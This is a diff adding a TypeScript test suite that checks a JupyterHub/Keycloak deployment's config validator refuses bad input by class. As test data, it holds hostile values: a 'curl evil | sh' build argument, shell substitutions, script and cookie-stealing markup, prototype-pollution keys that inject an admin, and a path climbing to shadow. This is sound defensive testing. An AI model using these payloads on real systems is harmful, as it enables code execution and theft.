@@ -1,0 +1,262 @@
+// Bad input, by class: each block is one class of value that Docker, DockerSpawner,
+// Keycloak, JupyterHub or a browser would refuse, fold or misread, or that would leak a
+// secret or flood a message. Every row goes through the same path as `pulumi up`
+// (projectKeys, then parseConfig) and must be refused with the key first. A new class
+// is one more block.
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import { ConfigError, parseConfig, projectKeys } from "../../config";
+import { validRaw } from "../fixtures";
+
+type Row = [what: string, overrides: Record<string, unknown>, expected: RegExp];
+
+const SECRET = "s3cret-client-value-9f2c";
+
+/** The flat `project:key -> string` map `pulumi config` hands over, from a valid config. */
+function flat(overrides: Record<string, unknown>, base: Record<string, unknown> = { ...validRaw(), keycloakClientSecret: SECRET }): Record<string, string> {
+    const out: Record<string, string> = {};
+    for (const [k, v] of Object.entries({ ...base, ...overrides })) {
+        if (v === undefined) continue;
+        out[k.includes(":") ? k : `pyiron-jupyterhub:${k}`] = typeof v === "string" ? v : JSON.stringify(v);
+    }
+    return out;
+}
+const trial = (overrides: Record<string, unknown>) => ({ __trial: true, ...overrides });
+
+function problemsOf(overrides: Record<string, unknown>): string[] {
+    const { __trial, ...rest } = overrides;
+    const raw = __trial ? flat(rest, { mode: "trial" }) : flat(rest);
+    try {
+        parseConfig(projectKeys(raw));
+    } catch (e) {
+        assert.ok(e instanceof ConfigError, `expected a ConfigError, got ${e}`);
+        return e.problems;
+    }
+    assert.fail("the config was accepted");
+}
+
+const kc = (change: Record<string, unknown>) => ({ keycloak: { realmUrl: "https://keycloak.example.org/realms/pyiron", clientId: "jupyterhub", ...change } });
+const image = (label: string, ref = "pyiron/base:2025-11-24") => ({ images: [{ label, image: ref }] });
+const long = (n: number, ch = "a") => ch.repeat(n);
+
+const CLASSES: Record<string, Row[]> = {
+    "URLs that a browser or the hub would read differently": [
+        ["no scheme", { publicUrl: "hub.example.org" }, /^publicUrl: is not a URL/],
+        ["a scheme without slashes", { publicUrl: "https:hub.example.org" }, /^publicUrl: is not (a URL|written the way browsers read it)/],
+        ["an empty query", { publicUrl: "https://hub.example.org/?" }, /^publicUrl: has a query or fragment/],
+        ["an empty fragment", { publicUrl: "https://hub.example.org/#" }, /^publicUrl: has a query or fragment/],
+        ["a dot segment", { publicUrl: "https://hub.example.org/." }, /^publicUrl: is not (a URL|written the way)/],
+        ["a backslash", { publicUrl: "https://hub.example.org\\" }, /^publicUrl: is not a URL/],
+        ["an upper-case host", { publicUrl: "https://HUB.Example.ORG" }, /^publicUrl: is not written the way browsers read it/],
+        ["the default port spelt out", { publicUrl: "https://hub.example.org:443" }, /^publicUrl: is not written the way browsers read it/],
+        ["a non-ASCII host", { publicUrl: "https://hüb.example.org" }, /^publicUrl: is not a URL/],
+        ["an IP shorthand", { publicUrl: "https://0x7f.1" }, /^publicUrl: is not written the way browsers read it/],
+        ["a tab inside", { publicUrl: "https://hub.exam\tple.org" }, /^publicUrl: holds a control character/],
+        ["a leading control character", { publicUrl: "\u0001https://hub.example.org" }, /^publicUrl: holds a control character/],
+        ["a trailing dot on the host", { publicUrl: "https://hub.example.org." }, /^publicUrl: has a host name ending in a dot/],
+        ["an ftp URL", { publicUrl: "ftp://hub.example.org" }, /^publicUrl: is not a URL/],
+        ["a javascript: callback", kc({ callbackUrl: "javascript:alert(document.cookie)" }), /^keycloak\.callbackUrl: is not a URL/],
+        ["a realm URL with a query", kc({ realmUrl: "https://kc.example.org/realms/pyiron?x=1" }), /^keycloak\.realmUrl: has a query or fragment/],
+        ["a realm URL with a space", kc({ realmUrl: "https://kc.example.org/realms/my realm" }), /^keycloak\.realmUrl: is not a URL/],
+        ["a logout URL with a query", kc({ logoutUrl: "https://kc.example.org/realms/p/protocol/openid-connect/logout?ui_locales=de" }), /^keycloak\.logoutUrl: has a query or fragment/],
+        ["a newline inside an endpoint", kc({ authorizeUrl: "https://kc.example.org/realms/p/protocol/openid-connect/a\nuth" }), /^keycloak\.authorizeUrl: holds a control character/],
+        ["an encoded control character", kc({ tokenUrl: "https://kc.example.org/realms/p/%0atoken" }), /^keycloak\.tokenUrl: encodes a control character/],
+        ["an overlong URL", { publicUrl: `https://${long(2100)}.example.org` }, /^publicUrl: is longer than 2048 characters/],
+    ],
+    "credentials and secrets where they would leak": [
+        ["a user and password in the public URL", { publicUrl: "https://user:pw@hub.example.org" }, /^publicUrl: carries a user name or password/],
+        ["a user name alone in the realm URL", kc({ realmUrl: "https://admin@kc.example.org/realms/p" }), /^keycloak\.realmUrl: carries a user name or password/],
+        ["a password in the token URL", kc({ tokenUrl: "https://a:b@kc.example.org/realms/p/protocol/openid-connect/token" }), /^keycloak\.tokenUrl: carries a user name or password/],
+        ["a client secret in a query", kc({ authorizeUrl: "https://kc.example.org/realms/p/protocol/openid-connect/auth?client_secret=x" }), /^keycloak\.authorizeUrl: has a query or fragment/],
+        ["a client secret with a tab", { keycloakClientSecret: "[abc\tdef" }, /^keycloakClientSecret: holds a control character/],
+        ["a client secret with a newline", { keycloakClientSecret: "abc\ndef" }, /^keycloakClientSecret: holds a control character/],
+        ["an empty client secret", { keycloakClientSecret: "" }, /^keycloakClientSecret: is empty/],
+        ["an overlong client secret", { keycloakClientSecret: long(1025, "x") }, /^keycloakClientSecret: is longer than 1024 characters/],
+    ],
+    "usernames Keycloak or JupyterHub would fold or refuse": [
+        ["a capital letter", { admins: ["Alice"] }, /^admins\[0\]: has capital letters/],
+        ["the same name twice after folding", { allowedUsers: ["bob", "Bob"] }, /^allowedUsers\[1\]: has capital letters/],
+        ["a space", { admins: ["alice smith"] }, /^admins\[0\]: is not a username/],
+        ["a quote", { admins: ["o'neil"] }, /^admins\[0\]: is not a username/],
+        ["markup", { admins: ["a<b>c"] }, /^admins\[0\]: is not a username/],
+        ["shell characters", { allowedUsers: ["x&y"] }, /^allowedUsers\[0\]: is not a username/],
+        ["a lone dot", { admins: ["."] }, /^admins\[0\]: is not a username/],
+        ["two dots", { admins: [".."] }, /^admins\[0\]: is not a username/],
+        ["a NUL", { admins: ["a\u0000b"] }, /^admins\[0\]: holds a control character/],
+        ["a zero-width space", { admins: ["ali\u200bce"] }, /^admins\[0\]: holds a control character/],
+        ["a Cyrillic look-alike", { admins: ["\u0430lice"] }, /^admins\[0\]: is not a username/],
+        ["a no-break space", { admins: ["a\u00a0b"] }, /^admins\[0\]: is not a username/],
+        ["a leading dash", { admins: ["-rf"] }, /^admins\[0\]: is not a username/],
+        ["a slash", { admins: ["a/b"] }, /^admins\[0\]: is not a username/],
+        ["an overlong name", { admins: [long(65)] }, /^admins\[0\]: is longer than 64 characters/],
+        ["a name listed twice", { admins: ["alice", "alice"] }, /^admins: lists the same user twice/],
+        ["an @ in a trial user", trial({ trial: { users: ["bob@example.org"] } }), /^trial\.users\[0\]: a trial user name cannot hold @/],
+        ["a capital in a trial user", trial({ trial: { users: ["Admin"] } }), /^trial\.users\[0\]: has capital letters/],
+    ],
+    "group names the claim would never match": [
+        ["a subgroup path", { allowedGroups: ["parent/child"] }, /^allowedGroups\[0\]: is a subgroup path/],
+        ["a newline", { allowedGroups: ["pyiron\nusers"] }, /^allowedGroups\[0\]: holds a control character/],
+        ["blanks only", { allowedGroups: ["  "] }, /^allowedGroups\[0\]: is empty/],
+        ["markup", { allowedGroups: ["<img src=x onerror=alert(1)>"] }, /^allowedGroups\[0\]: is not a group name/],
+        ["the same group with and without /", { allowedGroups: ["/a", "a"] }, /^allowedGroups: lists the same group twice/],
+        ["an overlong name", { allowedGroups: [long(300, "g")] }, /^allowedGroups\[0\]: is longer than 255 characters/],
+        ["a quote", { allowedGroups: ['say "hi"'] }, /^allowedGroups\[0\]: is not a group name/],
+    ],
+    "image labels the spawn form or a resource name would break": [
+        ["a double quote", image('base "v2"'), /^images\[0\]\.label: is not a label/],
+        ["markup", image("x</option></select><script>alert(1)</script>"), /^images\[0\]\.label: is not a label/],
+        ["__proto__", image("__proto__"), /^images\[0\]\.label: is not a label/],
+        ["a backslash", image("base\\v2"), /^images\[0\]\.label: is not a label/],
+        ["a single quote", image("o'neil image"), /^images\[0\]\.label: is not a label/],
+        ["a zero-width space", image("base\u200bv2"), /^images\[0\]\.label: holds a control character/],
+        ["an entity", image("a &amp; b"), /^images\[0\]\.label: is not a label/],
+        ["a newline", image("base\nv2"), /^images\[0\]\.label: holds a control character/],
+        ["a URN separator", image("a::b"), /^images\[0\]\.label: is not a label/],
+        ["labels equal but for case", { images: [{ label: "Base", image: "pyiron/base:2025-11-24" }, { label: "base", image: "pyiron/pyiron:2025-11-24" }] }, /^images: uses the same label twice/],
+        ["an overlong label", image(long(100, "L")), /^images\[0\]\.label: is longer than 64 characters/],
+        ["an empty label", image(""), /^images\[0\]\.label: is empty/],
+    ],
+    "image references Docker or the hub would refuse": [
+        ["an upper-case repository", image("base", "Pyiron/base:2025-11-24"), /^images\[0\]\.image: is not a Docker image reference/],
+        ["latest", image("base", "pyiron/base:latest"), /^images\[0\]\.image: is tagged latest/],
+        ["no tag", image("base", "pyiron/base"), /^images\[0\]\.image: has no tag/],
+        ["a pyiron image without a date tag", image("base", "pyiron/base:v1"), /^images\[0\]\.image: is a pyiron image without a date tag/],
+        ["a retired image after its last tag", image("base", "pyiron/continuum:2025-11-24"), /^images\[0\]\.image: is a tag a retired pyiron image never had/],
+        ["a repository name too long", image("base", `pyiron/${long(600)}:2025-11-24`), /^images\[0\]\.image: is longer than 512 characters/],
+        ["a registry starting with a dash", image("base", "-reg.example.org/x:1"), /^images\[0\]\.image: is not a Docker image reference/],
+        ["an empty registry label", image("base", "reg..example.org/x:1"), /^images\[0\]\.image: is not a Docker image reference/],
+        ["a shell substitution", image("base", "$(id):1"), /^images\[0\]\.image: is not a Docker image reference/],
+        ["the bare JupyterHub image as the hub", { hubImage: "quay.io/jupyterhub/jupyterhub:5.5.4" }, /^hubImage: is the bare JupyterHub image/],
+        ["a base image that is no image", { hubBuildArgs: { JUPYTERHUB_IMAGE: "not an image!" } }, /^hubBuildArgs\.JUPYTERHUB_IMAGE: is not a Docker image reference/],
+        ["postgres latest", { postgresImage: "postgres:latest" }, /^postgresImage: is tagged latest/],
+        ["an ancient Postgres", { postgresImage: "postgres:9.5" }, /^postgresImage: is a Postgres older than 13/],
+        ["an old Keycloak for the trial", trial({ trial: { keycloakImage: "quay.io/keycloak/keycloak:21.1.2" } }), /^trial\.keycloakImage: is a Keycloak older than 25/],
+    ],
+    "limits outside what Docker and DockerSpawner accept": [
+        ["a memory size with many digits", { memLimit: `${long(40, "9")}G` }, /^memLimit: is longer than 16 characters/],
+        ["more memory than any host", { memLimit: "8192T" }, /^memLimit: is above 4T/],
+        ["too little memory", { memLimit: "63M" }, /^memLimit: is below 64M/],
+        ["a memory unit Docker does not read", { memLimit: "2GB" }, /^memLimit: is not a memory size/],
+        ["an exponent", { memLimit: "1e3G" }, /^memLimit: is not a memory size/],
+        ["a fraction of a CPU Docker refuses", { cpuLimit: "0.001" }, /^cpuLimit: is below 0\.01/],
+        ["a CPU limit that would mean none", { cpuLimit: "0.000001" }, /^cpuLimit: is below 0\.01/],
+        ["three decimals", { cpuLimit: "0.015" }, /^cpuLimit: has more than two decimals/],
+        ["zero CPUs", { cpuLimit: "0" }, /^cpuLimit: must be greater than 0/],
+        ["more CPUs than any host", { cpuLimit: "5000" }, /^cpuLimit: is more CPUs than any host has/],
+        ["CPUs as words", { cpuLimit: "two" }, /^cpuLimit: is not a number of CPUs/],
+        ["an idle timeout past any integer", { idleTimeout: "1000000000000000000000" }, /^idleTimeout: is not a number of seconds/],
+        ["an idle timeout of years", { idleTimeout: "31536000000" }, /^idleTimeout: is over 30 days/],
+        ["a fractional timeout", { idleTimeout: "3600.5" }, /^idleTimeout: must be whole seconds/],
+    ],
+    "ports and addresses a browser or the host cannot use": [
+        ["a port browsers refuse (X11)", { httpsPort: "6000" }, /^httpsPort: 6000 is a port browsers refuse to open/],
+        ["a port browsers refuse (SIP)", { httpsPort: "5060" }, /^httpsPort: 5060 is a port browsers refuse/],
+        ["a port browsers refuse (10080)", { httpsPort: "10080" }, /^httpsPort: 10080 is a port browsers refuse/],
+        ["SSH's port for the trial hub", trial({ trial: { port: 22 } }), /^trial\.port: 22 is a port browsers refuse/],
+        ["IRC for the trial Keycloak", trial({ trial: { keycloakPort: 6667 } }), /^trial\.keycloakPort: 6667 is a port browsers refuse/],
+        ["port zero", { httpsPort: "0" }, /^httpsPort: is not a port number/],
+        ["a port past 65535", { httpsPort: "70000" }, /^httpsPort: is not a port number/],
+        ["a port with words", { httpsPort: "443 (published)" }, /^httpsPort: is not a port number/],
+        ["a multicast address", { bindAddress: "224.0.0.1" }, /^bindAddress: 224\.0\.0\.1 is not an address of this host/],
+        ["the broadcast address", { bindAddress: "255.255.255.255" }, /^bindAddress: 255\.255\.255\.255 is not an address of this host/],
+        ["a 0.x address", { bindAddress: "0.1.2.3" }, /^bindAddress: 0\.1\.2\.3 is not an address of this host/],
+        ["a host name", { bindAddress: "localhost" }, /^bindAddress: is not an IPv4 address/],
+        ["another loopback address for a trial", trial({ bindAddress: "127.0.0.2" }), /^bindAddress: a trial stack is reached at localhost/],
+        ["a public address for a trial", trial({ bindAddress: "0.0.0.0" }), /^bindAddress: a trial stack serves plain HTTP and binds to 127\.0\.0\.1 only/],
+        ["the hub and Keycloak on one trial port", trial({ trial: { port: 8180 } }), /^trial\.keycloakPort: is the hub's port too/],
+    ],
+    "networks the hub must not join": [
+        ["the host network", { hubExtraNetworks: ["host"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
+        ["no network", { hubExtraNetworks: ["none"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
+        ["the default bridge", { hubExtraNetworks: ["bridge"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
+        ["the swarm ingress", { hubExtraNetworks: ["ingress"] }, /^hubExtraNetworks\[0\]: is one of Docker's own networks/],
+        ["its own user network", { hubExtraNetworks: ["pyiron-hub-users"] }, /^hubExtraNetworks\[0\]: "pyiron-hub-users" is this stack's own network/],
+        ["another deployment's database", { hubExtraNetworks: ["lab-database"] }, /^hubExtraNetworks\[0\]: "lab-database" is this stack's own network or a hub database network/],
+        ["a name with a slash", { hubExtraNetworks: ["a/b"] }, /^hubExtraNetworks\[0\]: is not a Docker network name/],
+        ["too many networks", { hubExtraNetworks: Array.from({ length: 11 }, (_, i) => `net${i}`) }, /^hubExtraNetworks: lists more than 10 networks/],
+    ],
+    "host paths that change the mount or are not what was meant": [
+        ["a relative path", { tls: { keyPath: "hub.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: must be an absolute path/],
+        ["a colon", { tls: { keyPath: "/etc/ssl/hub.key:rw", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: holds a colon or comma/],
+        ["a comma", { tls: { keyPath: "/etc/ssl/private/hub.key", certPath: "/etc/ssl/a,b.crt" } }, /^tls\.certPath: holds a colon or comma/],
+        ["a dot-dot segment", { tls: { keyPath: "/etc/ssl/../shadow", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: is not a plain path/],
+        ["a double slash", { tls: { keyPath: "/etc//ssl/hub.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: is not a plain path/],
+        ["a newline", { tls: { keyPath: "/etc/ssl/hub\n.key", certPath: "/etc/ssl/certs/hub.crt" } }, /^tls\.keyPath: holds a control character/],
+        ["an unknown TLS key", { tls: { keyPath: "/etc/ssl/private/hub.key", certPath: "/etc/ssl/certs/hub.crt", chainPath: "/x" } }, /^tls\.chainPath: is not a config key of this project/],
+    ],
+    "keys that would reach object internals": [
+        ["__proto__ supplying admins", { "pyiron-jupyterhub:__proto__": JSON.stringify({ admins: ["mallory"] }), admins: undefined }, /^__proto__: is not a config key of this project/],
+        ["constructor", { "pyiron-jupyterhub:constructor": "x" }, /^constructor: is not a config key of this project/],
+        ["prototype", { "pyiron-jupyterhub:prototype": "x" }, /^prototype: is not a config key of this project/],
+        ["hasOwnProperty", { "pyiron-jupyterhub:hasOwnProperty": "x" }, /^hasOwnProperty: is not a config key of this project/],
+        ["a build arg named constructor", { hubBuildArgs: { constructor: "x" } }, /^hubBuildArgs\.constructor: is not a config key of this project/],
+        ["a build arg named __proto__", { hubBuildArgs: JSON.parse('{"__proto__": {"PIP_ARGS": "x"}}') }, /^hubBuildArgs\.__proto__: is not a config key of this project/],
+        ["a TLS key named __proto__", { tls: JSON.parse('{"__proto__": {"keyPath": "/a"}, "certPath": "/etc/ssl/certs/hub.crt"}') }, /^tls\.(__proto__: is not a config key|keyPath: is required)/],
+        ["an unknown build arg", { hubBuildArgs: { HTTP_PROXY: "http://proxy:3128" } }, /^hubBuildArgs\.HTTP_PROXY: is not a config key of this project/],
+    ],
+    "keys that would be silently ignored": [
+        ["build args with a prebuilt hub", { hubImage: "registry.example.org/hub:1.0", hubBuildArgs: { PIP_ARGS: "--no-index" } }, /^hubBuildArgs: is only used to build the hub recipe/],
+        ["httpsPort in a trial", trial({ httpsPort: "8443" }), /^httpsPort: a trial stack serves plain HTTP on trial\.port/],
+        ["allowInsecureHttp with https only", kc({ allowInsecureHttp: "true" }), /^keycloak\.allowInsecureHttp: is true, but every Keycloak URL uses https/],
+        ["a misspelt project namespace", { "pyiron-jupyterhb:memLimit": "4G" }, /^pyiron-jupyterhb:memLimit: belongs to no project or provider this stack uses/],
+        ["an unknown namespace", { "aws:region": "eu-central-1" }, /^aws:region: belongs to no project or provider/],
+        ["trial settings in production", { trial: { port: 8000 } }, /^trial: is only used in trial mode/],
+        ["production settings in a trial", trial({ publicUrl: "https://hub.example.org" }), /^publicUrl: is for production/],
+        ["allowAll with a list", { allowAll: "true" }, /^allowAll: is true, so allowedUsers and allowedGroups would have no effect/],
+    ],
+    "build args that would reach a shell": [
+        ["a command separator", { hubBuildArgs: { PIP_ARGS: "--no-index; curl evil | sh" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
+        ["a substitution", { hubBuildArgs: { PIP_ARGS: "--index-url=$(id)" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
+        ["a bare word", { hubBuildArgs: { PIP_ARGS: "requests" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
+        ["a backtick", { hubBuildArgs: { PIP_ARGS: "--pre `id`" } }, /^hubBuildArgs\.PIP_ARGS: is not a list of pip options/],
+    ],
+    "sizes that would take long or much memory": [
+        ["a value of 300 KB", { memLimit: long(300 * 1024) }, /^memLimit: is 307200 characters long, more than 262144/],
+        ["a list of 2000 admins", { admins: Array.from({ length: 2000 }, (_, i) => `user${i}`) }, /^admins: lists more than 1000 users/],
+        ["60 images", { images: Array.from({ length: 60 }, (_, i) => ({ label: `img${i}`, image: "pyiron/base:2025-11-24" })) }, /^images: lists more than 50 images/],
+        ["300 groups", { allowedGroups: Array.from({ length: 300 }, (_, i) => `g${i}`) }, /^allowedGroups: lists more than 200 groups/],
+        ["60 trial users", trial({ trial: { users: Array.from({ length: 60 }, (_, i) => `u${i}`) } }), /^trial\.users: lists more than 50 users/],
+        ["a string of 3000 characters", { keycloak: { realmUrl: `https://kc.example.org/realms/${long(3000)}`, clientId: "c" } }, /^keycloak\.realmUrl: is longer than 2048 characters/],
+        ["a broken JSON list", { admins: "[alice" }, /^admins: is not valid JSON for a list/],
+        ["a broken JSON object", { tls: "{keyPath" }, /^tls: is not valid JSON for an object/],
+    ],
+    "echoes that could forge or flood the output": [
+        ["an escape sequence in a key", { "pyiron-jupyterhub:x\u001b[2Jy": "1" }, /^"x\\u001b\[2Jy": is not a config key of this project/],
+        ["a carriage return in a key", { "pyiron-jupyterhub:a\rb": "1" }, /^"a\\rb": is not a config key/],
+        ["a right-to-left mark in a key", { "pyiron-jupyterhub:a\u202eb": "1" }, /^"a\\u202eb": is not a config key/],
+        ["a newline in a key", { "pyiron-jupyterhub:mem\nLimit": "2G" }, /^"mem\\nLimit": is not a config key/],
+        ["a long bad value", { memLimit: long(5000, "9") }, /^memLimit: is longer than 16 characters/],
+        ["a right-to-left mark in a value", { memLimit: "2\u202eG" }, /^memLimit: holds a control character/],
+    ],
+};
+
+describe("values that look structured but are plain", () => {
+    it("takes a client secret starting with [ or { as a string, and never shows it", () => {
+        for (const secret of ["[abc", "{not json", "[1,2]"]) {
+            const config = parseConfig(projectKeys(flat({ keycloakClientSecret: secret })));
+            assert.equal(config.mode === "production" && config.clientSecret, secret);
+        }
+        assert.throws(() => parseConfig(projectKeys(flat({ keycloakClientSecret: "[abc", memLimit: "2GB" }))), (e: Error) => !e.message.includes("[abc"));
+    });
+});
+
+describe("bad input is refused by class, with the key first", () => {
+    let total = 0;
+    for (const [cls, rows] of Object.entries(CLASSES)) {
+        describe(cls, () => {
+            for (const [what, overrides, expected] of rows) {
+                total++;
+                it(`refuses ${what}`, () => {
+                    const problems = problemsOf(overrides);
+                    assert.ok(problems.some((p) => expected.test(p)), `no problem matches ${expected}:\n${problems.join("\n")}`);
+                    const text = problems.join("\n");
+                    // No message carries the client secret, a control character, or more than a screenful.
+                    assert.ok(!text.includes(SECRET), "a message shows the client secret");
+                    assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/, "a message holds a raw control character");
+                    assert.ok(text.length < 20000, `the message is ${text.length} characters long`);
+                });
+            }
+        });
+    }
+    it("has at least 120 cases", () => assert.ok(total >= 120, `${total} cases`));
+});
